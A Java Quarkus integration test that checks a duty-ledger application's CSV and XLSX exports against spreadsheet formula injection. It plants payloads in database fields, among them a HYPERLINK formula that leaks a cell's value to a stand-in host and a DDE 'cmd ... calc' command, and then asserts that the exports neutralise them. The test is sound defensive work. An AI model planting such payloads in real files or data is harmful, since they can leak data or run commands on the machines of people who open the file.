package org.dutyledger.integration.export;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.dutyledger.audit.AuditTrail;
import org.dutyledger.audit.Changes;
import org.dutyledger.person.MembershipRole;
import org.dutyledger.support.Demo;
import org.dutyledger.support.Duties;
import org.dutyledger.support.EmbeddedPostgresResource;
import org.dutyledger.support.Fixtures;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.dutyledger.support.Tokens.as;

/**
 * Text that a spreadsheet would run as a formula comes out of every CSV export with a quote before it, and out of
 * every XLSX export as a plain string cell. The values are stored the way a form, an import or an OA system may
 * have stored them (written straight into the rows, since what the API accepts today is not the point).
 */
@QuarkusTest
@WithTestResource(EmbeddedPostgresResource.class)
class CsvInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")";
    static final String PLUS = "+SUM(1,2)";
    static final String MINUS = "-2+3";
    static final String AT = "@SUM(A1:A9)";
    static final String TAB = "\t=1+1";
    static final String CR = "\r=cmd|' /C calc'!A0";

    @Inject
    Fixtures fixtures;

    @Inject
    AuditTrail audit;

    long org;
    String external;

    @BeforeEach
    void storeFormulasEverywhere() throws Exception {
        org = Demo.createOrg("注入测试", "COMMUNITY", Duties.container()).getLong("id");
        String code = as("admin").get("/api/v1/organizations/" + org).then().statusCode(200).extract().jsonPath().getString("code");
        long person = fixtures.newPerson(code, MembershipRole.STAFF);
        long channel = Duties.channel(org, "注入阵地", "ACTIVE");
        long duty = Duties.assigned(person, org, "FIRST_RESPONSIBLE", "2024-01-01", null);
        external = "@EXT" + System.nanoTime();
        try (Connection db = EmbeddedPostgresResource.superuser()) {
            update(db, "UPDATE organization SET name = ?, short_name = ? WHERE id = ?", HYPERLINK, TAB, org);
            update(db, "UPDATE person SET name = ?, post = ?, phone = ?, external_id = ? WHERE id = ?", PLUS, CR, MINUS, external, person);
            update(db, "UPDATE duty_assignment SET basis_number = ?, basis_title = ? WHERE id = ?", HYPERLINK, AT, duty);
            update(db, "UPDATE channel SET name = ?, account_id = ?, description = ?, url = ? WHERE id = ?", MINUS, PLUS, TAB, AT, channel);
        }
    }

    private static void update(Connection db, String sql, Object... values) throws Exception {
        try (PreparedStatement ps = db.prepareStatement(sql)) {
            for (int i = 0; i < values.length; i++) {
                ps.setObject(i + 1, values[i]);
            }
            assertThat(ps.executeUpdate()).isEqualTo(1);
        }
    }

    @Test
    void everyCsvExportQuotesCellsThatWouldRunAsFormulas() {
        Map<String, List<String>> expected = Map.of(
                "organizations", List.of(HYPERLINK, TAB),
                "people", List.of(PLUS, CR, MINUS, external),
                "memberships", List.of(external),
                "duty-assignments", List.of(HYPERLINK, AT, external),
                "channels", List.of(MINUS, PLUS, TAB, AT));
        for (var e : expected.entrySet()) {
            String csv = new String(as("admin").queryParam("under", org).get("/api/v1/exports/" + e.getKey() + ".csv")
                    .then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
            List<String> cells = cells(csv.substring(1));
            for (String value : e.getValue()) {
                assertThat(cells).as("%s holds %s with a quote before it", e.getKey(), value).contains("'" + value);
            }
            assertThat(cells).as("no cell of %s starts like a formula", e.getKey()).noneMatch(CsvInjectionTest::formulaLike);
        }
    }

    @Test
    void everyXlsxExportHoldsTheTextAsAStringCellNeverAFormula() throws Exception {
        Map<String, List<String>> expected = Map.of(
                "organizations", List.of(HYPERLINK, TAB),
                "people", List.of(PLUS, CR, MINUS, external),
                "memberships", List.of(external),
                "duty-assignments", List.of(HYPERLINK, AT),
                "channels", List.of(MINUS, PLUS, TAB, AT));
        for (var e : expected.entrySet()) {
            byte[] file = as("admin").queryParam("under", org).get("/api/v1/exports/" + e.getKey() + ".xlsx")
                    .then().statusCode(200).extract().asByteArray();
            List<String> strings = new ArrayList<>();
            try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(file))) {
                Sheet sheet = wb.getSheetAt(0);
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s %s", e.getKey(), cell.getAddress()).isEqualTo(CellType.STRING);
                        strings.add(cell.getStringCellValue());
                    }
                }
            }
            assertThat(strings).as(e.getKey()).containsAll(e.getValue());
        }
    }

    @Test
    void theAuditCsvExportQuotesFormulasToo() {
        String type = "csv_test_" + System.nanoTime();
        QuarkusTransaction.requiringNew().run(() -> audit.recordAs("@subject", HYPERLINK, null, "test.formula", type,
                MINUS, null, Changes.create().put("name", null, PLUS)));
        String csv = as("auditor").queryParam("format", "csv").queryParam("entityType", type)
                .get("/api/v1/audit-events/export").then().statusCode(200).extract().asString();
        List<String> cells = cells(csv);
        assertThat(cells).contains("'@subject", "'" + HYPERLINK, "'" + MINUS);
        assertThat(cells).noneMatch(CsvInjectionTest::formulaLike);
    }

    static boolean formulaLike(String cell) {
        return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
    }

    /** Every cell of an RFC 4180 file, in order (rows run together). */
    static List<String> cells(String csv) {
        List<String> out = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                out.add(cell.toString());
                cell.setLength(0);
            } else if (c != '\r') {
                cell.append(c);
            }
        }
        if (!cell.isEmpty()) {
            out.add(cell.toString());
        }
        return out;
    }
}
